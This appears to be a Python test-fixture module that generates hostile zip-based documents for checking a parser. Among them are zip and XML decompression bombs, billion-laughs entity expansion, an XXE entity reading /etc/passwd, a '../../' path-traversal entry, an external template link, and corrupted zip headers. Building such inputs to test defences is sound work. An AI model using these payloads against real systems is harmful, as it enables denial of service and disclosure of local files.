"""Zip containers, and the office files and books inside them, that lie or unpack to too much."""

from __future__ import annotations

import io
import random
import struct
import zipfile

_DATE = (2025, 1, 6, 9, 0, 0)
_BOMB_BYTES = 60_000_000
_ENTITIES = (
    '<!DOCTYPE l [<!ENTITY e0 "lol">'
    + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
_FILE_ENTITY = '<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_MAIN = "application/vnd.openxmlformats-officedocument"


def _zip(*members: tuple[str, bytes | str], stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, content in members:
            info = zipfile.ZipInfo(name, _DATE)
            plain = stored or name == "mimetype"
            info.compress_type = zipfile.ZIP_STORED if plain else zipfile.ZIP_DEFLATED
            archive.writestr(info, content)
    return buffer.getvalue()


def _docx(document: bytes | str, *more: tuple[str, bytes | str]) -> bytes:
    return _zip(
        (
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{_MAIN}.wordprocessingml.'
            'document.main+xml"/></Types>',
        ),
        ("_rels/.rels", _relationship("officeDocument", "word/document.xml")),
        ("word/document.xml", document),
        *more,
    )


def _xlsx(sheet: bytes | str, *more: tuple[str, bytes | str]) -> bytes:
    return _zip(
        (
            "[Content_Types].xml",
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
            'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{_MAIN}.spreadsheetml.sheet.main+'
            f'xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="{_MAIN}.'
            'spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{_MAIN}.spreadsheetml.sharedStrings+xml"/></Types>',
        ),
        ("_rels/.rels", _relationship("officeDocument", "xl/workbook.xml")),
        (
            "xl/workbook.xml",
            f'<workbook {_S} xmlns:r="{_OFFICE}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/>'
            "</sheets></workbook>",
        ),
        ("xl/_rels/workbook.xml.rels", _relationship("worksheet", "worksheets/sheet1.xml")),
        ("xl/worksheets/sheet1.xml", sheet),
        *more,
    )


def _epub(chapter: bytes | str, *more: tuple[str, bytes | str], spine: int = 1) -> bytes:
    references = '<itemref idref="c"/>' * spine
    return _zip(
        ("mimetype", "application/epub+zip"),
        (
            "META-INF/container.xml",
            '<container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container">'
            '<rootfiles><rootfile full-path="b.opf" media-type="application/oebps-package+xml"/>'
            "</rootfiles></container>",
        ),
        (
            "b.opf",
            '<package version="3.0" xmlns="http://www.idpf.org/2007/opf"><metadata '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Book</dc:title></metadata>'
            '<manifest><item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
            f"<spine>{references}</spine></package>",
        ),
        ("c.xhtml", chapter),
        *more,
    )


def _relationship(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{_RELS}"><Relationship Id="rId1" Type="{_OFFICE}/{kind}" '
        f'Target="{target}"/></Relationships>'
    )


def _paragraph(text: str) -> str:
    return f"<w:document {_W}><w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"


def docx_bomb(chance: random.Random) -> bytes:
    return _docx(b" " * _BOMB_BYTES)


def docx_of_entities(chance: random.Random) -> bytes:
    return _docx('<?xml version="1.0"?>' + _ENTITIES + _paragraph("&e11;"))


def docx_of_a_file(chance: random.Random) -> bytes:
    return _docx('<?xml version="1.0"?>' + _FILE_ENTITY + _paragraph("&x;"))


def docx_deep(chance: random.Random) -> bytes:
    nested = "<w:tbl><w:tr><w:tc>" * 4_000 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 4_000
    return _docx(f"<w:document {_W}><w:body>{nested}</w:body></w:document>")


def docx_without_document(chance: random.Random) -> bytes:
    whole = _docx(_paragraph("x"))
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        kept = [n for n in archive.namelist() if n != "word/document.xml"]
        return _zip(*((name, archive.read(name)) for name in kept))


def docx_with_outer_template(chance: random.Random) -> bytes:
    link = _relationship("attachedTemplate", "http://host.invalid/t.dotm").replace(
        "/></Rel", ' TargetMode="External"/></Rel'
    )
    return _docx(_paragraph("the only text"), ("word/_rels/document.xml.rels", link))


def docx_that_breaks_off(chance: random.Random) -> bytes:
    return _docx(_paragraph("words " * 50)[:-60])


def xlsx_of_entities(chance: random.Random) -> bytes:
    strings = f'<?xml version="1.0"?>{_ENTITIES}<sst {_S}><si><t>&e11;</t></si></sst>'
    cell = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'
    return _xlsx(
        f"<worksheet {_S}><sheetData>{cell}</sheetData></worksheet>",
        ("xl/sharedStrings.xml", strings),
    )


def xlsx_of_all_cells(chance: random.Random) -> bytes:
    cell = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return _xlsx(
        f'<worksheet {_S}><dimension ref="A1:XFD1048576"/><sheetData>{cell}</sheetData></worksheet>'
    )


def xlsx_of_impossible_cells(chance: random.Random) -> bytes:
    cells = '<row r="99999999"><c r="ZZZZZ9"><v>1</v></c><c r="-1"/><c t="s"><v>999</v></c></row>'
    return _xlsx(f"<worksheet {_S}><sheetData>{cells}</sheetData></worksheet>")


def xlsx_bomb(chance: random.Random) -> bytes:
    rows = '<row><c t="inlineStr"><is><t>aaaaaaaaaaaaaaaaaaaa</t></is></c></row>' * 900_000
    return _xlsx(f"<worksheet {_S}><sheetData>{rows}</sheetData></worksheet>")


def epub_of_entities(chance: random.Random) -> bytes:
    return _epub('<?xml version="1.0"?>' + _ENTITIES + "<html><body><p>&e11;</p></body></html>")


def epub_of_one_chapter_many_times(chance: random.Random) -> bytes:
    return _epub("<html><body><p>again</p></body></html>", spine=20_000)


def epub_outside_its_folder(chance: random.Random) -> bytes:
    whole = _epub("<html><body><p>inside</p></body></html>", ("../../escaped.txt", "escaped"))
    return whole.replace(b"c.xhtml", b"../../e")


def epub_bomb(chance: random.Random) -> bytes:
    return _epub(b"<p>" + b"a" * _BOMB_BYTES)


def zip_in_zip(chance: random.Random) -> bytes:
    packed = b"the innermost file"
    for depth in range(30):
        packed = _zip((f"{depth}.zip", packed))
    return packed


def zip_bomb(chance: random.Random) -> bytes:
    """60 MB of zeros, packed twice: a few hundred bytes."""
    return _zip(("inner.zip", _zip(("zeros", bytes(_BOMB_BYTES)))))


def zip_of_many_names(chance: random.Random) -> bytes:
    return _zip(*((f"{n}", b"") for n in range(20_000)), stored=True)


def zip_with_wrong_offsets(chance: random.Random) -> bytes:
    packed = bytearray(_docx(_paragraph("lost")))
    place = packed.rindex(b"PK\x05\x06") + 16
    packed[place : place + 4] = struct.pack("<I", 0xFFFFFF00)
    return bytes(packed)


def zip_of_false_sizes(chance: random.Random) -> bytes:
    packed = bytearray(_docx(_paragraph("text")))
    place = packed.index(b"PK\x01\x02")
    while place >= 0:
        packed[place + 24 : place + 28] = struct.pack("<I", 1)
        place = packed.find(b"PK\x01\x02", place + 4)
    return bytes(packed)


def zip_marked_encrypted(chance: random.Random) -> bytes:
    packed = bytearray(_docx(_paragraph("secret")))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = packed.find(mark)
        while place >= 0:
            packed[place + offset] |= 1
            place = packed.find(mark, place + 4)
    return bytes(packed)


def zip_of_unknown_method(chance: random.Random) -> bytes:
    packed = bytearray(_epub("<html><body>text</body></html>"))
    for mark, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        place = packed.find(mark)
        while place >= 0:
            packed[place + offset] = 97
            place = packed.find(mark, place + 4)
    return bytes(packed)


TRAPS = tuple(
    (maker.__name__.replace("_", "-"), suffix, maker)
    for suffix, maker in (
        (".docx", docx_bomb),
        (".docx", docx_of_entities),
        (".docx", docx_of_a_file),
        (".docx", docx_deep),
        (".docx", docx_without_document),
        (".docx", docx_with_outer_template),
        (".docx", docx_that_breaks_off),
        (".xlsx", xlsx_of_entities),
        (".xlsx", xlsx_of_all_cells),
        (".xlsx", xlsx_of_impossible_cells),
        (".xlsx", xlsx_bomb),
        (".epub", epub_of_entities),
        (".epub", epub_of_one_chapter_many_times),
        (".epub", epub_outside_its_folder),
        (".epub", epub_bomb),
        (".zip", zip_in_zip),
        (".zip", zip_bomb),
        (".zip", zip_of_many_names),
        (".docx", zip_with_wrong_offsets),
        (".docx", zip_of_false_sizes),
        (".docx", zip_marked_encrypted),
        (".epub", zip_of_unknown_method),
    )
)
